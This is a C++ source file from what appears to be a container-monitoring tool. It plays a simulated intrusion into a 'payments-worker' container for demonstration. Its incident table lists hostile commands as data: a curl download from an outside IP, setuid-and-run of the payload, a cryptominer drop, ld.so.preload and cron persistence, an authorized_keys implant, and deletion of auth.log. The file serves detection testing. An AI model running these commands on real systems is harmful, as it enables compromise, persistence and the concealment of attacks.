// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/simulator/scenario.h"

#include <algorithm>
#include <array>

namespace hullwatch::simulator {

using namespace Qt::StringLiterals;

namespace {

const QString &victim() {
    static const QString name = u"payments-worker"_s;
    return name;
}

/// One thing that happens to the victim: a command by exec, a change of its file system, or the miner's
/// start.
struct Step {
    double seconds;
    const char *command; ///< nullptr: none
    const char *path;    ///< nullptr: none
    int kind;
    bool surge;
};

constexpr std::array Incident{
    Step{8, "sh", nullptr, 0, false},
    Step{11, "apt-get install -y curl", "/var/lib/dpkg", 0, false},
    Step{11, nullptr, "/var/lib/dpkg/status", 0, false},
    Step{14, "curl -fsSL http://198.51.100.23/x -o /tmp/.x", "/tmp", 0, false},
    Step{15, nullptr, "/tmp/.x", 1, false},
    Step{17, "sh -c chmod 4755 /tmp/.x; /tmp/.x", "/etc", 0, false},
    Step{17, nullptr, "/etc/passwd", 0, false},
    Step{18, nullptr, "/etc/ld.so.preload", 1, false},
    Step{20, nullptr, "/usr", 0, false},
    Step{20, nullptr, "/usr/local", 0, false},
    Step{20, nullptr, "/usr/local/bin", 0, false},
    Step{20, nullptr, "/usr/local/bin/kdevtmpfsi", 1, true},
    Step{26, nullptr, "/etc/cron.d", 0, false},
    Step{26, nullptr, "/etc/cron.d/refresh", 1, false},
    Step{32, nullptr, "/root", 0, false},
    Step{32, nullptr, "/root/.ssh", 1, false},
    Step{32, nullptr, "/root/.ssh/authorized_keys", 1, false},
    Step{38, "rm -f /var/log/auth.log", "/var/log", 0, false},
    Step{38, nullptr, "/var/log/auth.log", 2, false},
};

constexpr double ToggleSeconds = 15;

int milliseconds(double seconds, double speed) {
    return std::max(1, static_cast<int>(seconds * 1000 / speed));
}

} // namespace

ScenarioPlayer::ScenarioPlayer(HostState &host, Scenario scenario, double speed, QObject *parent)
    : QObject(parent), m_host(host), m_speed(speed > 0 ? speed : 1), m_startedNs(wallClockNs()) {
    if (scenario == Scenario::Steady)
        return;
    const bool churning = scenario == Scenario::Churn;
    connect(&m_toggle, &QTimer::timeout, this,
            churning ? &ScenarioPlayer::churn : &ScenarioPlayer::toggleOne);
    m_toggle.start(milliseconds(churning ? 1 : ToggleSeconds, m_speed));
    if (churning || m_host.find(victim()) == nullptr)
        return;
    m_incident.setSingleShot(true);
    connect(&m_incident, &QTimer::timeout, this, &ScenarioPlayer::playIncident);
    m_incident.start(milliseconds(Incident.front().seconds, m_speed));
}

void ScenarioPlayer::playIncident() {
    const double at = Incident[m_nextStep].seconds;
    while (m_nextStep < Incident.size() && Incident[m_nextStep].seconds <= at) {
        const Step &step = Incident[m_nextStep++];
        if (step.command != nullptr)
            m_host.exec(victim(), QString::fromLatin1(step.command));
        if (step.path != nullptr)
            m_host.addChanges(victim(), {{QString::fromLatin1(step.path), step.kind}});
        if (step.surge)
            m_host.setSurge(victim(), {.sinceNs = wallClockNs(),
                                       .cpus = 0.78,
                                       .netPerSecond = 880000,
                                       .memoryBytes = 96e6,
                                       .pids = 3});
    }
    if (m_nextStep < Incident.size())
        m_incident.start(milliseconds(Incident[m_nextStep].seconds - at, m_speed));
}

void ScenarioPlayer::toggleOne() {
    if (!m_stopped.isEmpty()) {
        m_host.start(m_stopped);
        m_stopped.clear();
        return;
    }
    // The named services stay up: they are what a demo points at.
    const auto &all = m_host.containers();
    const std::size_t first = m_host.spec().index == 0 ? namedServices().size() : 0;
    for (std::size_t tries = first; tries < all.size(); ++tries) {
        const std::size_t position = first + m_nextToggle++ % (all.size() - first);
        const ContainerSpec &spec = all[position]->spec;
        if (spec.state == RunState::Running && m_host.stop(spec.id)) {
            m_stopped = spec.id;
            return;
        }
    }
}

void ScenarioPlayer::churn() {
    const auto &all = m_host.containers();
    const std::size_t count = std::max<std::size_t>(1, all.size() / 10);
    for (std::size_t i = 0; i < count && !all.empty(); ++i) {
        const QString id = all[m_nextToggle++ * 7 % all.size()]->spec.id;
        if (!m_host.stop(id))
            m_host.start(id);
    }
}

} // namespace hullwatch::simulator
